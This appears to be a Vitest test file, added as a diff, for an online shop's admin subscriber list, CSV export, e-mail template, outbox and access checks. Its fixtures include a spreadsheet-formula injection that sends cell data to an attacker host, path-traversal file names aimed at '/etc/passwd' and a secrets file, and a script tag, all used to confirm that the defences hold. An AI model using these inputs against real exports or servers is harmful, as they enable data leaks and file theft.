@@ -1,0 +1,250 @@
+import fs from "node:fs";
+import path from "node:path";
+import type { LoaderFunctionArgs } from "@remix-run/node";
+import { beforeAll, describe, expect, it } from "vitest";
+import * as outboxPage from "../../app/routes/admin.outbox";
+import * as campaignRoute from "../../app/routes/api.admin.campaigns.$id";
+import * as resumeRoute from "../../app/routes/api.admin.campaigns.$id.resume";
+import * as templateRoute from "../../app/routes/api.admin.email-template";
+import * as exportRoute from "../../app/routes/api.admin.export-subscribers";
+import * as downloadRoute from "../../app/routes/api.admin.exports.$file";
+import * as sendRoute from "../../app/routes/api.admin.send-email";
+import * as listRoute from "../../app/routes/api.admin.subscribers";
+import * as loginRoute from "../../app/routes/api.login";
+import * as registerRoute from "../../app/routes/api.register";
+import * as trpcRoute from "../../app/routes/api.trpc.$";
+import { useAppContextForTests } from "../../server/boot";
+import { TEMPLATE_SUBJECT } from "../../server/contracts/admin-subscribers";
+import { neutraliseCell } from "../../server/services/admin-subscribers";
+import { sanitizeEmailHtml } from "../../server/services/campaign-mail";
+import { sendCampaign } from "../../server/services/campaigns";
+import { setSetting } from "../../server/services/settings";
+import { ensureAdmin } from "../../server/services/users";
+import { createTestContext } from "../setup/context";
+import { call, CookieJar } from "../setup/http";
+
+const ctx = createTestContext({ BRAND_NAME: "Legacy" });
+const admin = new CookieJar();
+const shopper = new CookieJar();
+let adminId: number;
+
+const TRICKY = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+  "+1-555@example.com",
+  "-2+3@example.com",
+  "@SUM(A1)@example.com",
+  "\tcmd@example.com",
+  '"quoted, with comma"@example.com',
+];
+
+beforeAll(async () => {
+  useAppContextForTests(ctx);
+  await ensureAdmin(ctx, { username: "boss", password: "boss-password", email: "boss@example.com" });
+  adminId = (await ctx.db.selectFrom("users").select("id").where("username", "=", "boss").executeTakeFirstOrThrow()).id;
+  await call(loginRoute.action, { method: "POST", body: { username: "boss", password: "boss-password" }, jar: admin });
+  await call(registerRoute.action, { method: "POST", body: { username: "shopper", password: "shopper1", email: "s@example.com" }, jar: shopper });
+  await ctx.db
+    .insertInto("subscribers")
+    .values([
+      { email: "first@example.com", subscribedAt: "2026-05-01T10:00:00.000Z" },
+      { email: "second@example.com", subscribedAt: "2026-05-02T10:00:00.000Z" },
+      { email: "left@example.com", subscribedAt: "2026-05-03T10:00:00.000Z", unsubscribedAt: "2026-05-04T10:00:00.000Z" },
+      ...TRICKY.map((email, i) => ({ email, subscribedAt: `2026-04-0${i + 1}T10:00:00.000Z` })),
+    ])
+    .execute();
+});
+
+describe("GET /api/admin/subscribers", () => {
+  it("lists the active subscribers newest first, with their count", async () => {
+    const response = await call(listRoute.loader, { path: "/api/admin/subscribers", jar: admin });
+    expect(response.status).toBe(200);
+    const body = (await response.json()) as { subscribers: { id: number; email: string; subscribedAt: string }[]; count: number };
+    expect(body.count).toBe(2 + TRICKY.length);
+    expect(body.subscribers).toHaveLength(body.count);
+    expect(body.subscribers.slice(0, 2)).toEqual([
+      { id: expect.any(Number), email: "second@example.com", subscribedAt: "2026-05-02T10:00:00.000Z" },
+      { id: expect.any(Number), email: "first@example.com", subscribedAt: "2026-05-01T10:00:00.000Z" },
+    ]);
+    expect(body.subscribers.map((s) => s.email)).not.toContain("left@example.com");
+  });
+});
+
+describe("the CSV export", () => {
+  async function exportAndDownload() {
+    const response = await call(exportRoute.loader, { path: "/api/admin/export-subscribers", jar: admin });
+    expect(response.status).toBe(200);
+    const result = (await response.json()) as { count: number; filename: string; downloadUrl: string };
+    const file = result.downloadUrl.split("/").pop()!;
+    const download = await call(downloadRoute.loader, { path: result.downloadUrl, params: { file }, jar: admin });
+    return { result, file, download };
+  }
+
+  it("answers count, filename and downloadUrl, and the file is a real CSV with the three columns", async () => {
+    const { result, file, download } = await exportAndDownload();
+    expect(result).toEqual({ count: 8, filename: "subscribers-2026-06-01.csv", downloadUrl: `/api/admin/exports/${file}` });
+    expect(file).toMatch(/^subscribers-2026-06-01-[a-f0-9]{32}\.csv$/);
+    expect(fs.existsSync(path.join(ctx.config.dataDir, "exports", file))).toBe(true);
+
+    expect(download.status).toBe(200);
+    expect(download.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
+    expect(download.headers.get("Content-Disposition")).toBe('attachment; filename="subscribers-2026-06-01.csv"');
+    expect(download.headers.get("Cache-Control")).toContain("no-store");
+    const bytes = new Uint8Array(await download.arrayBuffer());
+    // A UTF-8 byte-order mark, so Excel reads the addresses as UTF-8 (decoding drops it).
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = new TextDecoder().decode(bytes);
+    const lines = text.split("\r\n");
+    expect(lines[0]).toBe("#,Email,Subscribed On");
+    expect(lines[1]).toBe("1,second@example.com,2026-05-02T10:00:00.000Z");
+    expect(lines[2]).toBe("2,first@example.com,2026-05-01T10:00:00.000Z");
+    expect(lines.at(-1)).toBe("");
+    expect(lines).toHaveLength(1 + 8 + 1);
+    expect(text).not.toContain("left@example.com");
+  });
+
+  it("neutralises spreadsheet formulas and quotes commas and quotes", async () => {
+    const { download } = await exportAndDownload();
+    const text = await download.text();
+    // The formula starts with an apostrophe, so a spreadsheet shows it as text; its quotes are doubled.
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
+    expect(text).toContain(",'+1-555@example.com,");
+    expect(text).toContain(",'-2+3@example.com,");
+    expect(text).toContain(",'@SUM(A1)@example.com,");
+    expect(text).toContain(",'\tcmd@example.com,");
+    expect(text).toContain(`,"""quoted, with comma""@example.com",`);
+    // No cell of the file starts with a formula character.
+    for (const line of text.split("\r\n").filter(Boolean)) {
+      expect(line.split(",")[1]).not.toMatch(/^"?[=+\-@\t\r]/);
+    }
+    expect(neutraliseCell("\r=1")).toBe("'\r=1");
+    expect(neutraliseCell("plain@example.com")).toBe("plain@example.com");
+  });
+
+  it("lets only an admin download it (401, 403), and never outside the exports folder", async () => {
+    const { file } = await exportAndDownload();
+    expect((await call(downloadRoute.loader, { params: { file } })).status).toBe(401);
+    expect((await call(downloadRoute.loader, { params: { file }, jar: shopper })).status).toBe(403);
+    fs.writeFileSync(path.join(ctx.config.dataDir, "secret.csv"), "secret");
+    for (const attempt of ["../secret.csv", "..%2Fsecret.csv", "../store.db", "/etc/passwd", `${file}/../../secret.csv`, "subscribers-2026-06-01-00000000000000000000000000000000.csv", ".session-secret"]) {
+      const response = await call(downloadRoute.loader, { params: { file: attempt }, jar: admin });
+      expect(response.status, attempt).toBe(404);
+    }
+  });
+});
+
+describe("GET /api/admin/email-template", () => {
+  it("answers the launch announcement, built within the e-mail sanitiser's allow-list", async () => {
+    const response = await call(templateRoute.loader, { path: "/api/admin/email-template", jar: admin });
+    expect(response.status).toBe(200);
+    const { template } = (await response.json()) as { template: string };
+    expect(template).toContain("The drop is almost here");
+    expect(template).toContain("Legacy");
+    expect(template).toContain('href="/store"');
+    expect(template).toContain("Legacy isn&#39;t told — it&#39;s worn.");
+    // The default launch (July 2025) is past on the test clock.
+    expect(template).toContain("The collection is live now.");
+    const clean = sanitizeEmailHtml(template);
+    for (const kept of ["background-color:#0b0b0b", 'bgcolor="#0b0b0b"', 'href="/store"', "<h1", "<ul", "text-transform:uppercase"]) expect(clean).toContain(kept);
+    expect(TEMPLATE_SUBJECT).toBe("Product Launch Updates");
+  });
+
+  it("names the launch time in Eastern Time while the countdown is ahead", async () => {
+    await setSetting(ctx, "countdown_date", "2026-07-04T16:00:00.000Z");
+    const { template } = (await (await call(templateRoute.loader, { jar: admin })).json()) as { template: string };
+    expect(template).toContain("Doors open Saturday, July 4 at 12:00 PM ET.");
+  });
+});
+
+describe("every admin door refuses visitors (401) and non-admins (403)", () => {
+  type Handler = (args: LoaderFunctionArgs) => Promise<Response>;
+  const doors: [string, Handler, Record<string, string>][] = [
+    ["GET /api/admin/subscribers", listRoute.loader, {}],
+    ["POST /api/admin/subscribers", listRoute.action, {}],
+    ["GET /api/admin/export-subscribers", exportRoute.loader, {}],
+    ["POST /api/admin/export-subscribers", exportRoute.action, {}],
+    ["GET /api/admin/email-template", templateRoute.loader, {}],
+    ["POST /api/admin/email-template", templateRoute.action, {}],
+    ["POST /api/admin/send-email", sendRoute.action, {}],
+    ["GET /api/admin/send-email", sendRoute.loader, {}],
+    ["GET /api/admin/campaigns/1", campaignRoute.loader, { id: "1" }],
+    ["POST /api/admin/campaigns/1", campaignRoute.action, { id: "1" }],
+    ["POST /api/admin/campaigns/1/resume", resumeRoute.action, { id: "1" }],
+    ["GET /api/admin/campaigns/1/resume", resumeRoute.loader, { id: "1" }],
+    ["GET /api/admin/exports/x.csv", downloadRoute.loader, { file: "x.csv" }],
+    ["POST /api/admin/exports/x.csv", downloadRoute.action, { file: "x.csv" }],
+  ];
+
+  it.each(doors)("%s", async (name, handler, params) => {
+    const method = name.split(" ")[0]!;
+    const body = method === "POST" ? { subject: "Hi", htmlContent: "<p>x</p>" } : undefined;
+    const anonymous = await call(handler, { method, params, body });
+    expect(anonymous.status).toBe(401);
+    expect((await anonymous.json()).message).toBe("Please sign in to continue.");
+    const ordinary = await call(handler, { method, params, body, jar: shopper });
+    expect(ordinary.status).toBe(403);
+    expect((await ordinary.json()).message).toBe("Admin access is required.");
+  });
+
+  it("nothing was sent by the refused calls", async () => {
+    expect(await ctx.db.selectFrom("emailCampaigns").select("id").execute()).toEqual([]);
+  });
+});
+
+describe("tRPC admin.subscribers", () => {
+  const get = (proc: string, jar?: CookieJar, input?: unknown) =>
+    call(trpcRoute.loader, { path: `/api/trpc/admin.subscribers.${proc}${input === undefined ? "" : `?input=${encodeURIComponent(JSON.stringify(input))}`}`, jar });
+  const post = (proc: string, body: unknown, jar?: CookieJar) => call(trpcRoute.action, { method: "POST", path: `/api/trpc/admin.subscribers.${proc}`, body, jar });
+
+  it("refuses visitors and non-admins on every procedure", async () => {
+    for (const [name, request] of [
+      ["list", (jar?: CookieJar) => get("list", jar)],
+      ["template", (jar?: CookieJar) => get("template", jar)],
+      ["campaigns", (jar?: CookieJar) => get("campaigns", jar)],
+      ["campaign", (jar?: CookieJar) => get("campaign", jar, { id: 1 })],
+      ["export", (jar?: CookieJar) => post("export", {}, jar)],
+      ["preview", (jar?: CookieJar) => post("preview", { subject: "a", htmlContent: "b" }, jar)],
+    ] as const) {
+      expect((await request()).status, name).toBe(401);
+      expect((await request(shopper)).status, name).toBe(403);
+    }
+  });
+
+  it("gives an admin the list, the export and a sanitised preview", async () => {
+    const list = await get("list", admin);
+    expect((await list.json()).result.data.count).toBe(8);
+    const exported = (await (await post("export", {}, admin)).json()).result.data as { downloadUrl: string };
+    expect(exported.downloadUrl).toMatch(/^\/api\/admin\/exports\/subscribers-/);
+    const preview = (await (await post("preview", { subject: "Hello", htmlContent: "<p>Hi</p><script>x()</script>" }, admin)).json()).result.data as { html: string };
+    expect(preview.html).toContain("<p>Hi</p>");
+    expect(preview.html).not.toContain("<script>x()");
+    expect(preview.html).toContain("<title>Hello</title>");
+    expect(preview.html).toContain("Unsubscribe");
+  });
+});
+
+describe("the outbox page", () => {
+  const load = (url: string, jar?: CookieJar) =>
+    outboxPage.loader({ request: new Request(`http://localhost${url}`, { headers: jar ? { Cookie: jar.header() } : {} }), params: {}, context: {} });
+
+  it("sends visitors to sign in and non-admins home", async () => {
+    const anonymous = await load("/admin/outbox").catch((e: unknown) => e);
+    expect(anonymous).toBeInstanceOf(Response);
+    expect((anonymous as Response).headers.get("Location")).toBe("/auth?redirectTo=%2Fadmin%2Foutbox");
+    const ordinary = await load("/admin/outbox", shopper).catch((e: unknown) => e);
+    expect((ordinary as Response).headers.get("Location")).toBe("/");
+  });
+
+  it("lists the mail newest first, filters it, and opens one with its headers", async () => {
+    await sendCampaign(ctx, { subject: "Outbox check", htmlContent: "<p>Hi</p>" }, adminId, { origin: "http://localhost" });
+    const all = await load("/admin/outbox", admin);
+    expect(all.mode).toBe("outbox");
+    expect(all.total).toBe(8);
+    const ids = all.messages.map((m) => m.id);
+    expect(ids).toEqual([...ids].sort((a, b) => b - a));
+    const one = await load(`/admin/outbox?q=${encodeURIComponent("second@")}&stream=broadcast&id=${ids[0]}`, admin);
+    expect(one.messages.map((m) => m.toAddress)).toEqual(["second@example.com"]);
+    expect(one.message?.headers["List-Unsubscribe-Post"]).toBe("List-Unsubscribe=One-Click");
+    expect((await load("/admin/outbox?q=%25", admin)).total).toBe(0);
+    expect((await load("/admin/outbox?stream=outbound", admin)).total).toBe(0);
+  });
+});
